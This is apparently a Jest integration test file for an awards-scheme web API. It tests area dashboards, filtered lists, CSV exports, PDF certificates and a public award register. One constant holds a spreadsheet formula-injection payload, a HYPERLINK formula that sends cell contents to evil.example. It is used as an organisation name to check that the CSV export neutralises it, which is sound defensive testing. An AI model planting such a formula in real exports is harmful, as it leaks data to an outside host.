import { beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { event, ok, panelOfThree, review, SCHOOL_CODES, uploadEvidence } from '../helpers/applications.ts';
import type { Client } from '../helpers/client.ts';
import { useWorld } from '../helpers/setup.ts';
import { type Actor, createUserWithToken } from '../helpers/world.ts';

const { t, w } = useWorld({ PUBLIC_URL: 'https://awards.example.org' });
const DAY = 86_400_000;

/** Org with an applicant member, pledge signed. */
async function organisation(name: string, areaId: string, lead: Actor) {
  const id = ok(await lead.api.post('/organisations', { name, streamId: w.schoolsStreamId, areaId }), 201)
    .id as string;
  const applicant = await createUserWithToken(t.app, w.admin.api, {
    email: `member.${id}@example.org`,
    name: `Member of ${name}`,
    grants: [{ role: 'applicant', organisationId: id }],
  });
  ok(
    await applicant.api.post(`/organisations/${id}/pledge`, {
      signatoryName: 'Head',
      signatoryRole: 'Headteacher',
    }),
    201,
  );
  return { id, applicant };
}

/** A submitted application of `org`: answers, evidence, SUBMIT, all through the API. */
async function submitted(org: { id: string; applicant: Actor }) {
  const id = ok(await org.applicant.api.post('/applications', { organisationId: org.id }), 201).id as string;
  for (const code of SCHOOL_CODES)
    ok(await org.applicant.api.put(`/applications/${id}/answers/${code}`, { text: `On ${code}` }));
  ok(await uploadEvidence(t.app, org.applicant, id, SCHOOL_CODES, `evidence-${id}`), 201);
  ok(await event(org.applicant, id, { type: 'SUBMIT' }));
  return id;
}

/** Every page of a JSON list, following nextCursor. */
async function allPages(api: Client, url: string) {
  const items: any[] = [];
  let cursor: string | null = null;
  do {
    const sep = url.includes('?') ? '&' : '?';
    const page = ok(await api.get(`${url}${sep}limit=1${cursor ? `&cursor=${cursor}` : ''}`));
    items.push(...page.items);
    cursor = page.nextCursor;
  } while (cursor);
  return items;
}

async function csv(api: Client, url: string) {
  const res = await api.get(url, { accept: 'text/csv' });
  expect(res.status).toBe(200);
  expect(String(res.headers['content-type'])).toMatch(/^text\/csv/);
  expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename=".+\.csv"$/);
  return parse(res.text, { columns: true, bom: true }) as Record<string, string>[];
}

const asCsvCell = (v: unknown) => (v === null || v === undefined ? '' : String(v));

/** The text a PDF shows: hex strings inside TJ/Tj operators of uncompressed content streams. */
function pdfText(pdf: Buffer): string {
  const raw = pdf.toString('latin1');
  const lines: string[] = [];
  for (const m of raw.matchAll(/\[([^\]]*)\]\s*TJ|<([0-9a-fA-F]+)>\s*Tj/g)) {
    const hex = m[1] ? [...m[1].matchAll(/<([0-9a-fA-F]+)>/g)].map((h) => h[1]).join('') : m[2];
    lines.push(Buffer.from(hex, 'hex').toString('latin1'));
  }
  return lines.join('\n');
}

let awarded: { applicationId: string; awardId: string };
let lateId: string;
let pledgedOnly: string;
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

beforeAll(async () => {
  // Hillfields (area A) goes through the whole cycle to an award.
  const hillfields = { id: w.orgA, applicant: w.applicantA };
  ok(
    await w.applicantA.api.post(`/organisations/${w.orgA}/pledge`, {
      signatoryName: 'Ms Head',
      signatoryRole: 'Headteacher',
    }),
    201,
  );
  const appId = await submitted(hillfields);
  ok(await event(w.leadA, appId, { type: 'ACCEPT' }));
  const panel = await panelOfThree(t.app, w, 'reports');
  for (const m of panel) ok(await event(w.leadA, appId, { type: 'ASSIGN_APPRAISER', userId: m.id }));
  ok(await event(w.leadA, appId, { type: 'START_REVIEW' }));
  for (const m of panel) ok(await event(m, appId, review('met')));
  const decided = ok(
    await event(w.leadA, appId, { type: 'DECIDE', outcome: 'award', rationale: 'Every criterion met' }),
  );
  awarded = { applicationId: appId, awardId: decided.awardId };

  // A school whose submission has waited three weeks (the SUBMIT is moved back in time).
  const late = await organisation('Whitley Academy', w.areaA, w.leadA);
  lateId = await submitted(late);
  await sql`update application_events set at = now() - interval '21 days' where application_id = ${lateId} and type = 'SUBMIT'`.execute(
    t.database.db,
  );

  // Pledged, never applied; its name is a spreadsheet formula.
  pledgedOnly = (await organisation(FORMULA_NAME, w.areaA, w.leadA)).id;

  // Area B has its own work, which area A's lead never sees.
  ok(
    await w.applicantB.api.post(`/organisations/${w.orgB}/pledge`, {
      signatoryName: 'Pennaeth',
      signatoryRole: 'Head',
    }),
    201,
  );
  await submitted({ id: w.orgB, applicant: w.applicantB });
});

describe('the area dashboard', () => {
  it('shows the lead what needs attention in their area, and nothing of other areas', async () => {
    const d = ok(await w.leadA.api.get(`/areas/${w.areaA}/dashboard`));
    expect(d.area).toMatchObject({ id: w.areaA, name: 'Coventry' });
    expect(d.applications.total).toBe(2);
    expect(d.applications.byStatus).toEqual({ awarded: 1, submitted: 1 });
    expect(d.applications.byStateAndStream).toEqual([
      { state: 'awarded', stream: 'schools', count: 1 },
      { state: 'submitted', stream: 'schools', count: 1 },
    ]);
    expect(d.awards.current).toBe(1);
    expect(d.overdue.submissionsNotAccepted.count).toBe(1);
    expect(d.overdue.submissionsNotAccepted.items[0]).toMatchObject({
      applicationId: lateId,
      organisationName: 'Whitley Academy',
    });
    expect(d.overdue.submissionsNotAccepted.items[0].days).toBeGreaterThanOrEqual(20);
    expect(d.pledgedWithoutApplication.items.map((o: any) => o.organisationId)).toEqual([pledgedOnly]);
    expect(d.recentDecisions).toEqual([
      expect.objectContaining({
        applicationId: awarded.applicationId,
        outcome: 'award',
        organisationName: 'Hillfields Primary School',
      }),
    ]);
    expect(d.expiringAwards.count).toBe(0);
  });

  it('lists an award within 90 days of expiry', async () => {
    const soon = new Date(Date.now() + 30 * DAY).toISOString();
    await sql`update awards set expires_at = ${soon}, snapshot = jsonb_set(snapshot, '{context,expiresAt}', to_jsonb(${soon}::text)) where id = ${awarded.awardId}`.execute(
      t.database.db,
    );
    const d = ok(await w.admin.api.get(`/areas/${w.areaA}/dashboard`));
    expect(d.expiringAwards.items).toEqual([
      expect.objectContaining({ awardId: awarded.awardId, daysLeft: 30 }),
    ]);
  });

  it('answers 404 to another area’s lead, 403 to roles without dashboards, 401 without a token', async () => {
    expect((await w.leadB.api.get(`/areas/${w.areaA}/dashboard`)).status).toBe(404);
    expect((await w.applicantA.api.get(`/areas/${w.areaA}/dashboard`)).status).toBe(403);
    expect((await w.appraiserA.api.get(`/areas/${w.areaA}/dashboard`)).status).toBe(403);
    expect((await w.anonymous.get(`/areas/${w.areaA}/dashboard`)).status).toBe(401);
    expect((await w.admin.api.get('/areas/00000000-0000-4000-8000-000000000000/dashboard')).status).toBe(404);
  });

  it('gives admins a national summary across areas', async () => {
    const n = ok(await w.admin.api.get('/dashboard'));
    const a = n.areas.find((r: any) => r.areaId === w.areaA);
    const b = n.areas.find((r: any) => r.areaId === w.areaB);
    expect(a).toMatchObject({
      openApplications: 1,
      submissionsNotAccepted: 1,
      currentAwards: 1,
      expiringAwards: 1,
      pledgedWithoutApplication: 1,
      hasLead: true,
    });
    expect(b).toMatchObject({ openApplications: 1, submissionsNotAccepted: 0, currentAwards: 0 });
    expect(n.totals.openApplications).toBe(2);
    expect((await w.leadA.api.get('/dashboard')).status).toBe(403);
  });
});

describe('lists: filters and CSV', () => {
  it('filter applications by organisation name, update time and state, sorted by name', async () => {
    const byName = ok(await w.leadA.api.get('/applications?q=whitley'));
    expect(byName.items.map((a: any) => a.id)).toEqual([lateId]);
    expect(
      ok(await w.leadA.api.get(`/applications?updatedSince=${new Date(Date.now() + DAY).toISOString()}`))
        .items,
    ).toEqual([]);
    expect(
      ok(await w.admin.api.get('/applications?state=submitted&sort=organisationName')).items.map(
        (a: any) => a.organisationName,
      ),
    ).toEqual(['Whitley Academy', 'Ysgol Glan Morfa']);
    expect((await w.admin.api.get('/applications?sort=colour')).status).toBe(400);
  });

  it('filter awards by stream, expiry and name; organisations by stream and pledge', async () => {
    const soon = new Date(Date.now() + 90 * DAY).toISOString();
    expect(
      ok(await w.leadA.api.get(`/awards?stream=schools&expiringBefore=${soon}&q=hill`)).items.map(
        (a: any) => a.id,
      ),
    ).toEqual([awarded.awardId]);
    expect(ok(await w.leadA.api.get('/awards?q=whitley')).items).toEqual([]);
    const orgs = ok(await w.leadA.api.get('/organisations?stream=schools&pledged=true&sort=-name'));
    expect(orgs.items.map((o: any) => o.name)).toEqual([
      'Whitley Academy',
      'Hillfields Primary School',
      FORMULA_NAME,
    ]);
  });

  it('Accept: text/csv returns the same rows as the JSON pages', async () => {
    for (const [api, url] of [
      [w.leadA.api, '/applications'],
      [w.admin.api, '/applications?sort=updatedAt'],
      [w.leadA.api, '/awards'],
      [w.leadA.api, '/organisations'],
    ] as const) {
      const json = await allPages(api, url);
      const rows = await csv(api, url);
      expect(rows).toHaveLength(json.length);
      expect(json.length).toBeGreaterThan(0);
      let compared = 0;
      rows.forEach((row, i) => {
        expect(row.id).toBe(json[i].id);
        for (const [key, value] of Object.entries(json[i])) {
          if (key in row && typeof value !== 'object') {
            expect(row[key].replace(/^'(?=[=+\-@])/, '')).toBe(asCsvCell(value));
            compared++;
          }
        }
      });
      // Every row shares several columns with its JSON twin, not just the id.
      expect(compared).toBeGreaterThanOrEqual(rows.length * 4);
    }
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const rows = await csv(w.leadA.api, '/organisations?q=HYPERLINK');
    expect(rows).toHaveLength(1);
    expect(rows[0].name).toBe(`'${FORMULA_NAME}`);
    expect(rows[0].pledgeSignatoryName).toBe('Head');
  });

  it('a CSV export keeps the caller’s scope and filters', async () => {
    const rows = await csv(w.leadB.api, '/applications');
    expect(rows.map((r) => r.organisationName)).toEqual(['Ysgol Glan Morfa']);
    expect((await w.leadA.api.get('/applications?cursor=nonsense', { accept: 'text/csv' })).status).toBe(400);
  });
});

describe('certificates and the public register', () => {
  it('the certificate is a PDF naming the organisation, with a verification URL', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: `/awards/${awarded.awardId}/certificate`,
      headers: { authorization: `Bearer ${w.applicantA.token}` },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    const pdf = res.rawPayload;
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    const text = pdfText(pdf);
    expect(text).toContain('Hillfields Primary School');
    expect(text).toContain('Schools of Sanctuary');
    const url = `https://awards.example.org/register/${awarded.awardId}`;
    expect(text).toContain(url);
    expect((await w.leadB.api.get(`/awards/${awarded.awardId}/certificate`)).status).toBe(404);

    const verified = ok(await w.anonymous.get(new URL(url).pathname));
    expect(verified).toMatchObject({
      awardId: awarded.awardId,
      organisationName: 'Hillfields Primary School',
      current: true,
      status: 'current',
    });
  });

  it('the register lists current holders by stream, area, nation and name, in JSON and CSV, without people', async () => {
    const page = ok(
      await w.anonymous.get(`/register?stream=schools&nation=england&areaId=${w.areaA}&name=hillfields`),
    );
    expect(page.items).toHaveLength(1);
    expect(Object.keys(page.items[0]).sort()).toEqual([
      'area',
      'awardId',
      'awardedAt',
      'expiresAt',
      'nation',
      'organisationName',
      'stream',
      'streamSlug',
    ]);
    expect(ok(await w.anonymous.get('/register?nation=wales')).items).toEqual([]);
    const rows = await csv(w.anonymous, '/register');
    expect(rows).toEqual([
      {
        awardId: awarded.awardId,
        organisationName: 'Hillfields Primary School',
        stream: page.items[0].stream,
        area: 'Coventry',
        nation: 'england',
        awardedAt: page.items[0].awardedAt,
        expiresAt: page.items[0].expiresAt,
      },
    ]);
  });

  it('a revoked award leaves the register, its page says only that it is not current, and no certificate is issued', async () => {
    ok(await w.admin.api.post(`/awards/${awarded.awardId}/events`, { type: 'REVOKE', reason: 'Test' }));
    expect(ok(await w.anonymous.get('/register')).items).toEqual([]);
    const verified = ok(await w.anonymous.get(`/register/${awarded.awardId}`));
    // Not the holder, the dates, nor why: only that it is not current.
    expect(verified).toEqual({
      awardId: awarded.awardId,
      current: false,
      status: 'not-current',
      message: 'This award is not current.',
    });
    expect((await w.applicantA.api.get(`/awards/${awarded.awardId}/certificate`)).status).toBe(409);
    expect((await w.anonymous.get('/register/00000000-0000-4000-8000-000000000000')).status).toBe(404);
  });
});
